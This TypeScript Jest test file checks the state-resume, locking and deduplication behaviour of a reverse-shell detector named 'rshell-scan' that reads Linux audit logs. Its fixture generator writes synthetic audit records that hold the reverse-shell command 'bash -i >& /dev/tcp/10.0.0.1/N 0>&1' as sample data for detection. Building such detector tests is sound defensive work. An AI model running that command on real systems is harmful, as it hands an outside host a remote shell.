// --state: a run goes on where the last one was killed.
import { once } from 'node:events';
import {
  appendFileSync,
  existsSync,
  readFileSync,
  renameSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import path from 'node:path';
import { describe, expect, jest, test } from '@jest/globals';
import { withFiles } from '../io/files.js';
import { ndjson, runCli, SAMPLES, startCli } from '../support/cli.js';

// Runs are started again and again.
jest.setTimeout(60_000);

const ARGS = ['--follow', 'log', '--state', 'state', '-o', 'ndjson=alerts', '-o', 'text=text'];
const KILLS = 5;

const sleep = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms));

/** Raw records of processes that connect and become shells: each is an alert of its own, told by its serial. */
function attackRecords(count: number): readonly string[] {
  const lines: string[] = [];
  for (let number = 0; number < count; number++) {
    const pid = 1000 + number;
    const time = `${1_790_000_000 + number}.100`;
    const common = `arch=c000003e success=yes exit=0 items=0 ppid=1 pid=${pid} auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=1`;
    lines.push(
      `type=SYSCALL msg=audit(${time}:${2 * number + 1}): syscall=59 ${common} comm="bash" exe="/bin/bash" key="exec"`,
      `type=EXECVE msg=audit(${time}:${2 * number + 1}): argc=3 a0="bash" a1="-c" a2="bash -i >& /dev/tcp/10.0.0.1/${number} 0>&1"`,
      `type=PROCTITLE msg=audit(${time}:${2 * number + 1}): proctitle="bash"`,
    );
  }
  return lines;
}

/** Ids by which alerts are told, in no order. */
function idsOf(text: string): readonly unknown[] {
  return ndjson(text)
    .map(({ id }) => id)
    .sort();
}

class Log {
  readonly #path: string;
  readonly #lines: string[];

  constructor(root: string, lines: readonly string[]) {
    this.#path = path.join(root, 'log');
    this.#lines = [...lines];
  }

  get isDone(): boolean {
    return this.#lines.length === 0;
  }

  write(count: number): void {
    const part = this.#lines.splice(0, count);
    if (part.length > 0) appendFileSync(this.#path, `${part.join('\n')}\n`);
  }

  rotate(): void {
    for (let number = 9; number > 0; number--) {
      const name = `${this.#path}.${number}`;
      if (existsSync(name)) renameSync(name, `${this.#path}.${number + 1}`);
    }
    if (existsSync(this.#path)) renameSync(this.#path, `${this.#path}.1`);
  }
}

describe('--state', () => {
  test('killed again and again while the log is written and rotated: every alert once', async () => {
    const lines = attackRecords(200);
    await withFiles({ all: `${lines.join('\n')}\n` }, async (root) => {
      const whole = await runCli(['all', '--json'], { cwd: root });
      const expected = idsOf(whole.stdout);
      expect(expected.length).toBeGreaterThan(100);
      const log = new Log(root, lines);
      const state = path.join(root, 'state');
      for (let kill = 0; kill < KILLS; kill++) {
        const child = startCli(ARGS, { cwd: root });
        const closed = once(child, 'close');
        while (!existsSync(state)) await sleep(10);
        const steps = 20;
        for (let step = 0; step < steps; step++) {
          log.write(3 * (1 + (step % 2)));
          if (step % 7 === kill % 7) log.rotate();
          await sleep(30 + 10 * kill);
        }
        child.kill('SIGKILL');
        await closed;
        log.write(6);
        if (kill % 2 === 0) log.rotate();
      }
      const child = startCli(ARGS, { cwd: root });
      const closed = once(child, 'close');
      while (!log.isDone) log.write(50);
      const alerts = (): string => readFileSync(path.join(root, 'alerts'), 'utf8');
      for (let wait = 0; wait < 600 && ndjson(alerts()).length < expected.length; wait++) {
        await sleep(50);
      }
      await sleep(1000);
      child.kill('SIGTERM');
      await closed;
      expect(idsOf(alerts())).toEqual(expected);
      const text = readFileSync(path.join(root, 'text'), 'utf8');
      expect(text.match(/^alert +/gm)).toHaveLength(expected.length);
    });
  });

  test('a sequence goes on behind a break', async () => {
    const lines = readFileSync(path.join(SAMPLES, 'reverse-shell-attack.ndjson'), 'utf8')
      .trimEnd()
      .split('\n');
    await withFiles({ log: `${lines.slice(0, -1).join('\n')}\n` }, async (root) => {
      const run = async (isOver: () => boolean): Promise<void> => {
        const child = startCli(ARGS, { cwd: root });
        const closed = once(child, 'close');
        while (!existsSync(path.join(root, 'state'))) await sleep(10);
        for (let wait = 0; wait < 40 && !isOver(); wait++) await sleep(50);
        child.kill('SIGTERM');
        await closed;
      };
      const alerts = (): string => readFileSync(path.join(root, 'alerts'), 'utf8');
      await run(() => false);
      const before = ndjson(alerts()).length;
      appendFileSync(path.join(root, 'log'), `${lines.at(-1) ?? ''}\n`);
      await run(() => ndjson(alerts()).length > before);
      const whole = await runCli([path.join(SAMPLES, 'reverse-shell-attack.ndjson'), '--json'], {});
      expect(idsOf(alerts())).toEqual(idsOf(whole.stdout));
    });
  });

  test('is for one run at a time; that of a killed one is taken over', async () => {
    await withFiles({ log: '' }, async (root) => {
      const child = startCli(ARGS, { cwd: root });
      const closed = once(child, 'close');
      while (!existsSync(path.join(root, 'state'))) await sleep(10);
      const second = await runCli(ARGS, { cwd: root });
      expect(second.code).toBe(2);
      expect(second.stderr).toMatch(
        /error\[RS412\]: state is in use by the run with process id \d+/,
      );
      child.kill('SIGKILL');
      await closed;
      const third = startCli(ARGS, { cwd: root });
      const ended = once(third, 'close');
      const saved = statSync(path.join(root, 'state')).mtimeMs;
      while (statSync(path.join(root, 'state')).mtimeMs === saved) await sleep(10);
      third.kill('SIGTERM');
      expect((await ended)[0]).toBe(143);
      expect(existsSync(path.join(root, 'state.lock'))).toBe(false);
    });
  });

  test('a repeat is suppressed behind a break, too', async () => {
    const attack = readFileSync(path.join(SAMPLES, 'attack.ndjson'), 'utf8');
    const again = attack.replaceAll('"sequence":', '"sequence":9').replaceAll('"id":"', '"id":"9');
    await withFiles({ log: attack }, async (root) => {
      const args = [...ARGS, '--suppress', 'event.kind'];
      const alerts = path.join(root, 'alerts');
      for (const signal of ['SIGKILL', 'SIGTERM'] as const) {
        const child = startCli(args, { cwd: root });
        const closed = once(child, 'close');
        while (!existsSync(alerts) || ndjson(readFileSync(alerts, 'utf8')).length < 3) {
          await sleep(20);
        }
        // What would be reported now is a repeat of what was reported.
        if (signal === 'SIGTERM') appendFileSync(path.join(root, 'log'), again);
        await sleep(1000);
        child.kill(signal);
        await closed;
      }
      expect(ndjson(readFileSync(alerts, 'utf8'))).toHaveLength(3);
    });
  });

  test('that is damaged is said, kept aside, and not fatal', async () => {
    const attack = readFileSync(path.join(SAMPLES, 'attack.ndjson'), 'utf8');
    await withFiles({ log: attack, state: 'rshell-scan state 2\nxyz' }, async (root) => {
      const child = startCli(ARGS, { cwd: root });
      let stderr = '';
      child.stderr!.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
      const alerts = path.join(root, 'alerts');
      while (!existsSync(alerts) || readFileSync(alerts).length === 0) await sleep(20);
      const closed = once(child, 'close');
      child.kill('SIGTERM');
      await closed;
      expect(stderr).toContain('RS411');
      expect(existsSync(path.join(root, 'state.bad'))).toBe(true);
      expect(readFileSync(path.join(root, 'state'), 'latin1')).toMatch(/^rshell-scan state 2\n/);
    });
  });

  test.each([
    ['without --follow', ['a', '--state', 'x']],
    ['for standard input', ['--follow', '-', '--state', 'x']],
    ['with a report that is one document', ['--follow', 'a', '--state', 'x', '-o', 'json']],
  ])('is refused %s', async (_, args) => {
    await withFiles({ a: '' }, async (root) => {
      writeFileSync(path.join(root, 'a'), '');
      const { code, stderr } = await runCli(args, { cwd: root });
      expect(code).toBe(2);
      expect(stderr).toContain('RS402');
      expect(existsSync(path.join(root, 'x'))).toBe(false);
    });
  });
});
